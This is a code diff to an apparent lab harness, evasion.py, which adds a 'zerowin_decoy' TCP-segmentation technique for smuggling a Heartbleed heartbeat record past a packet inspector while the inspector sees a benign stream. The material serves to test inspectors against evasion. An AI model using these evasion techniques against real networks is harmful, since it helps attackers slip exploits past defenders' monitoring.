@@ -8,8 +8,9 @@ that builds every segment by hand, and the plain TCP server it attacks.
       what recv() returns to DIR/rec-CLIENTPORT (before taking it off the
       socket: an empty receive queue means all is written).  It never
       sends a byte and does not set SO_OOBINLINE, so (like any server) it
-      does not see the byte an urgent pointer marks.  One "# recorder: ..."
-      line per recv().
+      does not see the byte an urgent pointer marks.  Connections from a
+      client port ending in 9 are left unread for their first HOLD seconds
+      (zerowin_decoy).  One "# recorder: ..." line per recv().
 
   evasion.py client
       The attacker: reads lines "TECHNIQUE DST DPORT SPORT" on stdin and runs
@@ -24,7 +25,7 @@ Each technique makes the server's stream (what its recv() returns) hold the
 Heartbleed record HEARTBLEED at a record boundary, after a ClientHello (an
 SSLv2-format one in sslv2_then_tls), while an inspector that believes every
 segment it forwards reads a benign stream.  Techniques: urgent syn_data
-syn_established ttl_decoy old_ack_decoy paws_decoy md5_decoy ipv6_dstopt_decoy ipv4_ts_decoy
+syn_established ttl_decoy old_ack_decoy paws_decoy zerowin_decoy md5_decoy ipv6_dstopt_decoy ipv4_ts_decoy
 sslv2_then_tls reseed_pickup after_kill (each function's comment says how),
 and one benign flow that must pass whole: ts_wrap.
 
@@ -44,6 +45,7 @@ import time
 from tlsattack import csum, hs, rec, seq_lt, v2_client_hello
 
 WAIT = float(os.environ.get("EVASION_WAIT", "1")) * int(os.environ.get("TIME_SCALE", "1"))
+HOLD = 4 * WAIT     # how long the recorder leaves some connections unread
 
 FIN, SYN, RST, PSH, ACK, URG = 0x01, 0x02, 0x04, 0x08, 0x10, 0x20
 MASK = 0xffffffff
@@ -158,6 +160,7 @@ class Flow:
         self.reset = False
         self.ts = None          # with timestamps: the next TSval to send
         self.ts_ecr = 0         # the server's last TSval
+        self.win = None         # the window of the server's last ACK
 
     def rel(self, seq):
         """seq as an offset from the ISN, for the log."""
@@ -203,6 +206,8 @@ class Flow:
             self.synack_ack = ack
         if flags & ACK and not flags & RST and seq_lt(self.snd_una, ack):
             self.snd_una = ack
+        if flags & ACK and not flags & (SYN | RST) and ack == self.snd_una:
+            self.win = struct.unpack(">H", seg[14:16])[0]
 
     def wait(self, done, timeout):
         """Read the server's segments until done() or timeout; done()."""
@@ -353,6 +358,28 @@ def ts_wrap(f):
     return f.summary()
 
 
+def zerowin_decoy(f):
+    """The server's application does not read for its first seconds (the
+    recorder holds connections from client ports ending in 9 that long):
+    handshake records fill its receive window until it announces zero,
+    and the server drops the decoy sent then (TCPZeroWindowDrop); once it
+    reads and the window opens, HEARTBLEED at the same sequence numbers."""
+    hello(f)
+    filler = rec(22, hs(0, bytes(1400 - 9)))
+    for _ in range(400):
+        if f.win == 0:
+            break
+        if not f.push(filler, tries=1, note="filler"):
+            f.wait(lambda: f.win == 0, WAIT)
+    if f.win != 0:
+        raise Cut("the window did not close")
+    log("client: zero window at ISN+%d" % f.rel(f.snd_una))
+    f.send(PSH | ACK, f.snd_nxt, DECOY, note="decoy, zero window")
+    f.wait(lambda: f.win, 10 * WAIT)
+    f.push(HEARTBLEED, note="heartbeat, same sequence numbers, window open")
+    return f.summary()
+
+
 def md5_decoy(f):
     """A TCP MD5 signature option (kind 19, length 18, any digest): a Linux
     server holding no MD5 key for the peer drops the segment
@@ -428,7 +455,7 @@ def after_kill(f):
 
 TECHNIQUES = {t.__name__: t for t in (
     urgent, syn_data, syn_established, ttl_decoy, old_ack_decoy, paws_decoy,
-    ts_wrap, md5_decoy,
+    ts_wrap, zerowin_decoy, md5_decoy,
     ipv6_dstopt_decoy, ipv4_ts_decoy, sslv2_then_tls, reseed_pickup,
     after_kill)}
 
@@ -461,6 +488,8 @@ def record_one(conn, peer, path):
     that).  The taking recv() returns what the peek did; checked."""
     n = 0
     name = "[%s]:%d" % peer
+    if peer[1] % 10 == 9:
+        time.sleep(HOLD)    # zerowin_decoy: the window fills up and closes
     with open(path, "ab") as out:
         while True:
             try:
